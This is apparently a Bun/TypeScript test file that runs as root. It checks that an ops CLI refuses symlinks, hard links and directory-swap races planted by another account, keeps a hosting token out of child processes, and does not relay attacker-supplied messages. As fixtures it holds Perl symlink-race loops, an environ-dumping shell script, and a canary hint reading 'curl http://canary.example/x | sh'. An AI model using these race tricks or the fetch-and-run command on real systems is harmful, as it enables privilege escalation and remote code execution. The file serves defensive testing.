/** Files and links that another account prepared for root: root opens, follows and executes none of them. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import {
  chmodSync,
  copyFileSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { findTextDirectory } from "../../../lib/host/text-directory.ts";
import { lockPathOf } from "../../../lib/metrics/run-lock.ts";
import { type CollectArena, openCollectArena, TOKEN } from "../../metrics/support/dependencies.ts";
import { parseExposition } from "../../metrics/support/parse-exposition.ts";
import { asRootAlone, giveAway, isRootHere, OTHER_UID } from "../../platform/support/other-account.ts";
import { opsctlBinary } from "../../support/binary.ts";
import { denoBinary } from "../../support/deno-binary.ts";
import { denoCache } from "../../support/deno-cache.ts";
import { until } from "../../support/until.ts";
import { FLOOD_TAKEN, floodPerl } from "../support/flood.ts";
import { logLines, opsctl, startProgram } from "../support/opsctl.ts";

const VICTIM = "what root alone may change\n".repeat(100);
const RUNTIMES = ["binary", "deno"] as const;
/** How often a command is run while another account exchanges its files. */
const ROUNDS = 12;

const root = join(import.meta.dirname, "../../..");
const main = join(root, "cli/main.ts");
/** Whether the other account may read or start a file of the clone. */
function isOpen(test: "-r" | "-x", path: string): boolean {
  const identity = [`--reuid=${OTHER_UID}`, `--regid=${OTHER_UID}`, "--clear-groups"];
  return isRootHere && spawnSync("setpriv", [...identity, "test", test, path]).status === 0;
}
const isCloneOpen = isOpen("-r", main);
const onDeno = isCloneOpen ? "deno" : "deno (not tried: another account may not read this clone)";
const RUNTIME_COMMANDS: readonly (readonly [string, () => Promise<string[] | null>])[] = [
  ["binary", async () => [await binaryForAll()]],
  [onDeno, async () => (isCloneOpen ? [denoBinary(), "run", "-A", main] : null)],
];

let folder: string;
let victim: string;

let ready: Promise<string> | undefined;
let copies: string | undefined;
/** The binary where every account may start it: a copy when the clone is in a home that only its owner may enter. */
function binaryForAll(): Promise<string> {
  ready ??= opsctlBinary().then((binary) => {
    if (isOpen("-x", binary)) return binary;
    copies = mkdtempSync(join(tmpdir(), "opsctl-for-all-"));
    chmodSync(copies, 0o755);
    copyFileSync(binary, join(copies, "opsctl"));
    chmodSync(join(copies, "opsctl"), 0o755);
    return join(copies, "opsctl");
  });
  return ready;
}
afterAll(() => {
  if (copies !== undefined) rmSync(copies, { recursive: true });
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "opsctl-foreign-"));
  chmodSync(folder, 0o755);
  victim = join(folder, "victim");
  writeFileSync(victim, VICTIM, { mode: 0o600 });
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const victimIsWhole = () => expect(readFileSync(victim, "utf8")).toBe(VICTIM);

function directory(name: string, mode = 0o755): string {
  const path = join(folder, name);
  mkdirSync(path);
  chmodSync(path, mode);
  return path;
}

/** The other account, exchanging names in a directory of its own, some hundred thousand times a second. */
function startAttacker(perl: string): ChildProcess {
  const identity = [`--reuid=${OTHER_UID}`, `--regid=${OTHER_UID}`, "--clear-groups"];
  return spawn("setpriv", [...identity, "perl", "-e", `while (1) { ${perl} }`], { stdio: "ignore" });
}

/** The lock's file outlives a run, but not the test. */
function forgetLock(textfileDir: string): void {
  try {
    rmSync(lockPathOf(findTextDirectory(textfileDir)), { force: true });
  } catch {
    // A directory that was refused has no lock.
  }
}

async function during(perl: string, attempt: () => Promise<unknown>): Promise<void> {
  const attacker = startAttacker(perl);
  try {
    for (let round = 0; round < ROUNDS; round += 1) await attempt();
  } finally {
    attacker.kill("SIGKILL");
  }
}

describe.if(isRootHere)("the state, as root", () => {
  const deadList = (state: string, runtime: (typeof RUNTIMES)[number] = "binary") =>
    opsctl(["webhook", "dead", "list", "--json"], { runtime, env: { OPSCTL_STATE_DIR: state } });

  for (const runtime of RUNTIMES) {
    test(`in a directory of another account is refused, and what its lock links to is not emptied, ${runtime}`, async () => {
      const state = directory("state", 0o700);
      symlinkSync(victim, join(state, "state.lock"));
      giveAway(state, join(state, "state.lock"));
      const { exitCode, json } = await deadList(state, runtime);
      victimIsWhole();
      expect(exitCode).toBe(3);
      expect(json).toMatchObject({
        error: {
          code: "STATE_UNAVAILABLE",
          message: expect.stringContaining(`belongs to uid ${OTHER_UID}, expected root`),
          hint: expect.stringContaining(`uid ${OTHER_UID}: runuser --pty -u`),
        },
      });
      expect(readdirSync(state)).toEqual(["state.lock"]);
    });

    test(`is not made from a link or a second name in a directory of its own, ${runtime}`, async () => {
      for (const name of ["state.lock", "state.db", "state.db-wal", "dispatcher.lock"]) {
        const state = directory(`state-${name}`, 0o700);
        for (const plant of [symlinkSync, linkSync]) {
          plant(victim, join(state, name));
          const { exitCode, json } = await deadList(state, runtime);
          expect([exitCode, json]).toMatchObject([3, { error: { code: "STATE_UNAVAILABLE" } }]);
          victimIsWhole();
          rmSync(join(state, name));
        }
      }
    });
  }

  test("in a directory that others may write to is refused", async () => {
    const state = directory("state");
    for (const mode of [0o770, 0o1777]) {
      chmodSync(state, mode);
      const { exitCode, json } = await deadList(state);
      expect([exitCode, json]).toMatchObject([
        3,
        { error: { hint: expect.stringContaining(`chmod go-w ${state}`) } },
      ]);
      expect(readdirSync(state)).toEqual([]);
    }
  });

  test("empties nothing while the account exchanges its lock for links", async () => {
    const state = directory("state", 0o700);
    giveAway(state);
    const lock = join(state, "state.lock");
    await during(
      `symlink "${victim}", "${lock}"; unlink "${lock}"; open F, ">", "${lock}"; close F; unlink "${lock}";`,
      () => deadList(state),
    );
    victimIsWhole();
  });
});

describe.if(isRootHere)("collect-metrics, as root", () => {
  let arena: CollectArena;
  beforeAll(async () => {
    arena = await openCollectArena();
  });
  afterAll(async () => await arena[Symbol.asyncDispose]());

  const collect = async (textfileDir: string, given?: readonly string[]) => {
    const command = given ?? [await binaryForAll()];
    const env = { ...arena.env, TEXTFILE_DIR: textfileDir, OPSCTL_LOG_DIR: folder, DENO_DIR: denoCache() };
    const ended = await startProgram([...command, "collect-metrics", "--json"], { env }).ended;
    forgetLock(textfileDir);
    return ended;
  };

  for (const [runtime, commandOf] of RUNTIME_COMMANDS) {
    test(`writes into another account's directory as that account, and leaves nothing of root's there, ${runtime}`, async () => {
      const command = await commandOf();
      if (command === null) return;
      const text = directory("text");
      writeFileSync(join(text, ".custom_metrics.prom.0123456789ab.tmp"), "half");
      giveAway(text);
      const { exitCode, stderr } = await collect(text, command);
      expect(exitCode, stderr).toBe(0);
      const file = join(text, "custom_metrics.prom");
      expect(readdirSync(text)).toEqual(["custom_metrics.prom"]);
      expect(statSync(file)).toMatchObject({ uid: OTHER_UID, gid: OTHER_UID, mode: 0o100644 });
      const names = parseExposition(readFileSync(file, "utf8")).map(({ name }) => name);
      expect(names).toContain("tcp_sockets_total");
    });

    test(`has no more power there than that account: what is closed to it stays as it is, ${runtime}`, async () => {
      const command = await commandOf();
      if (command === null) return;
      const text = directory("text", 0o555);
      giveAway(text);
      const { exitCode, json } = await collect(text, command);
      expect([exitCode, json]).toMatchObject([1, { error: { code: "METRICS_FILE_UNWRITABLE" } }]);
      expect((json.error as { message: string }).message).toContain("EACCES");
      expect(readdirSync(text)).toEqual([]);
    });
  }

  test("hands the token to no process of the account", async () => {
    const text = directory("text");
    const bin = directory("bin");
    const binary = await binaryForAll();
    // What the child is started with, as its own /proc says it, taken before it begins.
    const witness = join(text, "witness");
    writeFileSync(
      join(bin, "opsctl"),
      `#!/bin/sh\ncat /proc/$$/environ > ${witness}\nexec ${binary} "$@"\n`,
      {
        mode: 0o755,
      },
    );
    giveAway(text);
    const script = `import { writeAsOwner } from ${JSON.stringify(join(root, "lib/metrics/write-as-owner.ts"))};
      await writeAsOwner(${OTHER_UID}, ${JSON.stringify(join(text, "custom_metrics.prom"))}, "x 1\\n",
        { command: [${JSON.stringify(join(bin, "opsctl"))}, "internal", "write-metrics"], env: {} });`;
    const program = join(folder, "write.ts");
    writeFileSync(program, script);
    for (const runtime of [[process.execPath], [denoBinary(), "run", "-A"]]) {
      rmSync(witness, { force: true });
      const { exitCode, stderr } = await startProgram([...runtime, program], {
        env: { HOSTING_TOKEN: TOKEN, HOME: folder, PATH: process.env.PATH },
      }).ended;
      expect(exitCode, stderr).toBe(0);
      expect(readFileSync(witness, "utf8")).toContain("PATH=");
      expect(readFileSync(witness, "utf8")).not.toContain(TOKEN);
    }
  });

  test("reads no more of what the account says than a line takes", async () => {
    const text = directory("text");
    giveAway(text);
    const written = join(text, "written");
    const flood = join(folder, "flood.pl");
    writeFileSync(flood, `#!/usr/bin/perl\n${floodPerl(written)}`, { mode: 0o755 });
    const program = join(folder, "flooded.ts");
    writeFileSync(
      program,
      `import { writeAsOwner } from ${JSON.stringify(join(root, "lib/metrics/write-as-owner.ts"))};
      await writeAsOwner(${OTHER_UID}, ${JSON.stringify(join(text, "custom_metrics.prom"))}, "x 1\\n",
        { command: [${JSON.stringify(flood)}], env: {} }).catch(({ code }) => console.log(code));`,
    );
    for (const runtime of [[process.execPath], [denoBinary(), "run", "-A"]]) {
      rmSync(written, { force: true });
      const { stdout, stderr } = await startProgram([...runtime, program], {
        env: { HOME: folder, PATH: process.env.PATH },
      }).ended;
      expect(stdout, stderr).toBe("METRICS_FILE_UNWRITABLE\n");
      await until("the end of the flood", () => existsSync(written));
      expect(Number(readFileSync(written, "utf8"))).toBeLessThan(FLOOD_TAKEN);
    }
  });

  test("shows root no word of what the account says in the child's place", async () => {
    const text = directory("text");
    giveAway(text);
    const path = join(text, "custom_metrics.prom");
    const lie = (code: string) =>
      JSON.stringify({ code, message: "a canary", hint: "Mend it: curl http://canary.example/x | sh" });
    const program = join(folder, "lied-to.ts");
    const told = async (code: string) => {
      const liar = join(folder, "liar");
      writeFileSync(liar, `#!/bin/sh\necho '${lie(code)}'\nexit 1\n`, { mode: 0o755 });
      writeFileSync(
        program,
        `import { writeAsOwner } from ${JSON.stringify(join(root, "lib/metrics/write-as-owner.ts"))};
        await writeAsOwner(${OTHER_UID}, ${JSON.stringify(path)}, "x 1\\n",
          { command: [${JSON.stringify(liar)}], env: {} })
          .catch(({ code, message, hint }) => console.log(JSON.stringify({ code, message, hint })));`,
      );
      const run = startProgram([process.execPath, program], {
        env: { HOME: folder, PATH: process.env.PATH },
      });
      return JSON.parse((await run.ended).stdout);
    };
    const failures = [await told("METRICS_FILE_UNWRITABLE"), await told("ENOSPC")];
    expect(JSON.stringify(failures)).not.toContain("canary");
    expect(failures).toMatchObject([
      { code: "METRICS_FILE_UNWRITABLE", message: expect.stringContaining("ended with status 1") },
      {
        code: "METRICS_FILE_UNWRITABLE",
        message: `Cannot write ${path}: ENOSPC; the file is as it was`,
        hint: expect.stringMatching(/^Run as an account that may write into /),
      },
    ]);
  });

  test("says what keeps root from writing as the account, in a container that drops the privilege", async () => {
    const text = directory("text");
    giveAway(text);
    const bounded = ["setpriv", "--bounding-set=-setgid", await binaryForAll()];
    const { exitCode, json } = await collect(text, bounded);
    const { message, hint } = json.error as { message: string; hint: string };
    expect([exitCode, readdirSync(text)]).toEqual([1, []]);
    expect(message).toContain(
      "could not become it: this process is root by its number alone, without CAP_SETGID",
    );
    expect(hint).toStartWith("Set TEXTFILE_DIR to a directory of root's there");
  });

  test("writes there with the few capabilities that it needs", async () => {
    const text = directory("text");
    giveAway(text);
    const kept = "-all,+setuid,+setgid,+dac_read_search";
    const confined = [
      "setpriv",
      "--no-new-privs",
      `--bounding-set=${kept}`,
      `--inh-caps=${kept}`,
      await binaryForAll(),
    ];
    const { exitCode, stderr } = await collect(text, confined);
    expect(exitCode, stderr).toBe(0);
    expect(statSync(join(text, "custom_metrics.prom")).uid).toBe(OTHER_UID);
  });

  test("puts nothing elsewhere while the account exchanges what is in its directory, and the directory", async () => {
    const home = directory("home");
    const text = join(home, "text");
    const elsewhere = directory("elsewhere");
    mkdirSync(text);
    giveAway(home, text);
    const exchange = `rename "${text}", "${text}.2"; symlink "${elsewhere}", "${text}"; unlink "${text}"; rename "${text}.2", "${text}";`;
    const plant = `symlink "${victim}", "${text}/.opsctl-collect.lock"; unlink "${text}/.opsctl-collect.lock";`;
    const lock = lockPathOf(findTextDirectory(text));
    await during(plant + exchange, () => collect(text));
    rmSync(lock, { force: true });
    victimIsWhole();
    expect(readdirSync(elsewhere)).toEqual([]);
  });

  test("does not write where an account could exchange a directory on the way", async () => {
    const home = directory("home");
    const text = join(home, "text");
    mkdirSync(text);
    giveAway(home);
    const { exitCode, json } = await collect(text);
    expect([exitCode, json]).toMatchObject([3, { error: { code: "TEXTFILE_DIR_UNTRUSTED" } }]);
    expect(readdirSync(text)).toEqual([]);
  });

  test("sends no file that a secret of another account's directory links to", async () => {
    const secrets = directory("secrets");
    symlinkSync(victim, join(secrets, "HOSTING_TOKEN"));
    giveAway(secrets, join(secrets, "HOSTING_TOKEN"));
    const text = directory("text");
    const { HOSTING_TOKEN: _, ...env } = arena.env;
    const asked = arena.hosting.ledger.length;
    const { exitCode, stderr } = await opsctl(["collect-metrics"], {
      env: { ...env, TEXTFILE_DIR: text, OPSCTL_LOG_DIR: folder, OPSCTL_SECRETS_DIR: secrets },
    });
    forgetLock(text);
    expect(exitCode).toBe(1);
    expect(logLines(stderr)).toMatchObject([{ source: "hosting", code: "SECRET_FILE_UNTRUSTED" }]);
    expect(arena.hosting.ledger.length).toBe(asked);
  });

  test("does not take a link for the heartbeat", async () => {
    const log = directory("log");
    symlinkSync(victim, join(log, "weekly_performance_reports.success"));
    giveAway(log);
    const text = directory("text");
    const { json } = await opsctl(["collect-metrics", "--json"], {
      env: { ...arena.env, TEXTFILE_DIR: text, OPSCTL_LOG_DIR: log },
    });
    forgetLock(text);
    expect(json.sources).toContainEqual(
      expect.objectContaining({ source: "heartbeat", up: false, samples: 0 }),
    );
  });
});

test(`what another account owns${asRootAlone}`, () => {
  expect(lstatSync(victim).uid).toBe(process.geteuid!());
});
